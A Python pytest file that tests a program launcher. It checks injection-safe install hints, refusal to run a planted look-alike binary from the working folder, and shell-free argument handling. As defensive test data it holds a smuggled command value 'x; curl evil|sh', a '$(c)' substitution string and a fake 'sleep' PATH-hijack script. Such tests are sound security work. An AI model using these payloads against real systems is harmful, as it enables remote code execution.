import contextlib
import os
import signal
from collections.abc import Iterator
from pathlib import Path

import pytest

from recorder.task_start.plan import StartPlan
from recorder.task_start.program import (
    MissingProgramError,
    Program,
    belongs_to,
    find_program,
    is_running,
    start_program,
)


def plan(*command: str) -> StartPlan:
    return StartPlan(command, (), None, None)


@pytest.fixture
def started() -> Iterator[list[Program]]:
    programs: list[Program] = []
    yield programs
    for program in programs:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(program.pid, signal.SIGKILL)
        program.wait()


def test_a_missing_program_is_named_with_the_way_to_install_it(tmp_path: Path) -> None:
    with pytest.raises(MissingProgramError) as caught:
        find_program(plan("mousepad"), environment={"PATH": str(tmp_path)})
    assert "mousepad" in caught.value.happened
    assert caught.value.mend.endswith("apt-get install mousepad")


def test_a_stranger_s_text_is_never_part_of_a_line_to_copy(tmp_path: Path) -> None:
    with pytest.raises(MissingProgramError) as caught:
        find_program(plan("x; curl evil|sh"), environment={"PATH": str(tmp_path)})
    assert "curl" not in caught.value.mend


def test_a_file_of_the_study_never_takes_the_place_of_a_program(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, started: list[Program]
) -> None:
    folder = tmp_path / "task"
    folder.mkdir()
    fake = folder / "sleep"
    fake.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\nexec /bin/sleep 30\n")
    fake.chmod(0o755)
    monkeypatch.chdir(tmp_path)
    started.append(start_program(plan("sleep", "30"), folder, environment={"PATH": ".:/usr/bin:/bin"}))
    assert Path(f"/proc/{started[0].pid}/exe").resolve().is_relative_to("/usr/bin")
    assert not (tmp_path / "ran").exists()


def test_no_shell_reads_the_command(tmp_path: Path, started: list[Program]) -> None:
    program = start_program(plan("touch", "a b;$(c)"), tmp_path, environment={"PATH": "/usr/bin:/bin"})
    started.append(program)
    program.wait(10)
    assert [path.name for path in tmp_path.iterdir()] == ["a b;$(c)"]


def test_what_a_program_starts_and_leaves_behind_belongs_to_it(
    tmp_path: Path, started: list[Program]
) -> None:
    program = start_program(
        plan("sh", "-c", "sleep 60 & echo $! >pid"), tmp_path, environment={"PATH": "/usr/bin:/bin"}
    )
    started.append(program)
    program.wait(10)
    child = int((tmp_path / "pid").read_text())
    assert belongs_to(program, child)
    assert is_running(program)
    os.kill(child, signal.SIGKILL)
    assert not belongs_to(program, os.getpid())
    assert not belongs_to(program, None)
